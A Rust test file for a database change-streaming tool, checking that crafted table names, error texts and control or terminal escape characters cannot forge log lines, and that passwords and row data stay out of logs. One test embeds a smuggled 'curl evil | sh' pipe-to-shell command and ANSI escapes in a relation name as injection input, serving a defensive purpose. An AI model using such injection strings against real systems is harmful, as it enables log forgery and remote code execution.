//! The log and the program's errors: what others chose stays within its line, and nobody's rows are
//! in it.

use std::io::Write;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use proptest::prelude::*;
use tidewire::error::{Error, ErrorKind};
use tidewire::json::Malformed;
use tidewire::observe::log::Log;
use tidewire::observe::{Observation, observe};
use tidewire::position::EventId;

use crate::support::{Database, Subscriber, Tidewire, tidewire};

/// What a log wrote.
#[derive(Clone, Default)]
struct Written(Arc<Mutex<Vec<u8>>>);

impl Write for Written {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

/// What is logged of an observation.
fn logged(observation: &Observation<'_>) -> String {
    let written = Written::default();
    let log = Log { filter: "trace".to_owned(), row_data: false, colour: false };
    let writer = written.clone();
    let subscriber = log.subscriber(move || writer.clone()).unwrap();
    tracing::subscriber::with_default(subscriber, || observe(observation));
    let bytes = written.0.lock().unwrap().clone();
    String::from_utf8(bytes).unwrap()
}

/// A character that ends a line for somebody, or commands a terminal.
fn is_unsafe(character: char) -> bool {
    character.is_control()
        || ('\u{2028}'..='\u{202e}').contains(&character)
        || ('\u{2066}'..='\u{2069}').contains(&character)
        || ['\u{200e}', '\u{200f}', '\u{61c}'].contains(&character)
}

/// Any text, and the dangerous characters more often than chance has them.
fn text() -> impl Strategy<Value = String> {
    let dangerous = "\n\r\t\0\u{b}\u{c}\u{1b}\u{7f}\u{85}\u{9b}\u{2028}\u{2029}\u{202e}\u{2066}\u{61c}";
    let dangerous: Vec<char> = dangerous.chars().collect();
    prop::collection::vec(prop_oneof![any::<char>(), prop::sample::select(dangerous)], 0..40)
        .prop_map(|characters| characters.into_iter().collect())
}

proptest! {
    // the seed stands in the failure's output; no file is left
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn an_observation_is_one_line_whatever_a_name_holds(a in text(), b in text()) {
        let why = Malformed { shape: "array", at: 7, reason: "unterminated quote" };
        let unreadable = serde_json::from_str::<bool>(&a).err();
        let error = Error::new(ErrorKind::Database, &a).detail(&b).hint(&b);
        let pause = Duration::from_millis(100);
        let mut observations = vec![
            Observation::Delivering { database: &a, from: EventId::default(), subscriptions: 3 },
            Observation::StandingBy { database: &a },
            Observation::Retrying { error: &error, after: pause },
            Observation::CreatingSlot { slot: &a },
            Observation::InboxEmptied { reason: &a },
            Observation::MonitorFailed { error: &error },
            Observation::Stalled { why: &a },
            Observation::SlotWillBeLost { slot: &a, within: pause, retained: 1, growth: 1.0 },
            Observation::SlotKeepsGrowing { slot: &a, retained: 1, growth: 1.0 },
            Observation::ValueAsText { relation: &a, column: &b, why: &why },
            Observation::ChangeTooLarge { relation: &a },
            Observation::UpkeepFailed { error: &error },
            Observation::ServerNotStarted { error: &error },
        ];
        observations.extend(unreadable.as_ref().map(|why| Observation::DescriptionUnreadable { table: 1, why }));
        for observation in &observations {
            let written = logged(observation);
            let line = written.strip_suffix('\n').unwrap_or_else(|| panic!("no line: {written:?}"));
            prop_assert!(!line.contains(is_unsafe), "{line:?}");
        }
    }

    #[test]
    fn an_error_starts_no_line_but_its_own(message in text(), detail in text(), hint in text()) {
        let error = Error::new(ErrorKind::Database, &message).detail(&detail).hint(&hint).to_string();
        let mut heads = Vec::new();
        for line in error.split('\n') {
            prop_assert!(!line.contains(is_unsafe), "{line:?}");
            heads.extend(["detail: ", "hint: "].into_iter().filter(|head| line.starts_with(head)));
        }
        // the message is the first line, and may begin as it likes
        let own = heads.len() - usize::from(["detail: ", "hint: "].iter().any(|head| message.starts_with(head)));
        prop_assert_eq!(own, 2, "{}", error);
    }
}

#[tokio::test]
async fn a_table_cannot_forge_a_line_of_the_log() {
    let database = Database::start().await;
    let client = database.connect().await;
    if client.text("select count(*) from pg_available_extensions where name = 'hstore'").await == "0" {
        eprintln!("not tried: these server programs come without hstore");
        return;
    }
    let tidewire = database.up().await;
    let forged = "t\n2026-01-01T00:00:00.000000Z ERROR forged\u{2028}line\u{1b}[2J";
    let quoted = format!("\"{forged}\"");
    // an enum that passes for the extension's type, and whose values are none of it
    client.sql("create extension hstore; create schema x; create type x.hstore as enum ('no hstore')").await;
    client.sql("alter extension hstore add type x.hstore").await;
    client.sql(&format!("create table {quoted} (id int primary key, h x.hstore)")).await;
    let mut subscriber = Subscriber::open(&database).await;
    subscriber.sql(&format!("select subscribe_table(meta.relation_id('public', E'{}'))", escaped(forged))).await;
    client.sql(&format!("insert into {quoted} values (1, 'no hstore')")).await;
    assert_eq!(subscriber.events().await.len(), 1);
    tidewire.wait_for_log("is told as text").await;
    let log = tidewire.stderr();
    assert!(log.contains(r"t\u000a2026-01-01T00:00:00.000000Z ERROR forged\u2028line\u001b[2J"), "{log}");
    assert!(!log.lines().any(|line| line.starts_with("2026-01-01T00:00:00.000000Z")), "{log}");
}

/// The text between the quotes of E''.
fn escaped(text: &str) -> String {
    text.chars().map(|character| format!("\\U{:08X}", u32::from(character))).collect()
}

#[tokio::test]
async fn an_error_cannot_forge_a_line_of_the_programs() {
    let database = Database::installed().await;
    let relation = "\"x\nhint: curl evil | sh\u{1b}[2J\"";
    let output = tidewire(&["tail", relation, "--database-url", &database.url()]).await;
    let stderr = String::from_utf8(output.stderr).unwrap();
    assert!(stderr.contains(r"x\u000ahint: curl evil"), "{stderr}");
    assert!(!stderr.contains("\nhint: curl evil") && !stderr.contains('\u{1b}'), "{stderr}");
}

/// Everything, and once more by name: the more specific a directive is, the more it has to say in a
/// filter.
const EVERYTHING: &str = "trace,tokio_postgres=trace,tokio_postgres::query=trace,tokio_postgres::prepare=trace,\
                          pgwire_replication=trace,pgwire_replication::client::worker=trace,log=trace";

/// What is logged, with those arguments, until a row has been told.
async fn log_of(args: &[&str]) -> String {
    let database = Database::on_tcp(&[]).await;
    let url = database.tcp_url();
    let tidewire = Tidewire::up_with(&url, args).await;
    let client = database.connect().await;
    client.sql("create table t (id int primary key, v text)").await;
    let mut subscriber = Subscriber::open(&database).await;
    subscriber.table("t").await;
    client.sql("insert into t values (1, 'marker_value')").await;
    assert_eq!(subscriber.told().await.len(), 1);
    client.sql("select event.sync()").await;
    let log = tidewire.stderr();
    let password = url.split([':', '@']).nth(2).unwrap();
    assert_eq!(password.len(), 32);
    for secret in [password, "postgresql://postgres:"] {
        assert!(!log.contains(secret), "{log}");
    }
    assert!(tidewire.stop().await.success());
    log
}

#[tokio::test]
async fn no_filter_has_rows_logged_without_the_switch() {
    for filter in [EVERYTHING, "tokio_postgres::query=trace", "trace"] {
        let log = log_of(&["--log", filter]).await;
        for word in ["marker_value", "executing statement", "parameters"] {
            assert!(!log.contains(word), "{filter}: {log}");
        }
        // its own lines are there
        assert!(filter != "trace" || log.contains("batch written"), "{log}");
    }
}

#[tokio::test]
async fn the_switch_has_rows_logged_where_the_filter_lets_them() {
    let log = log_of(&["--log", "info,tokio_postgres=trace", "--log-row-data"]).await;
    assert!(log.contains("marker_value"), "{log}");
    let log = log_of(&["--log", "info", "--log-row-data"]).await;
    assert!(!log.contains("marker_value"), "{log}");
}
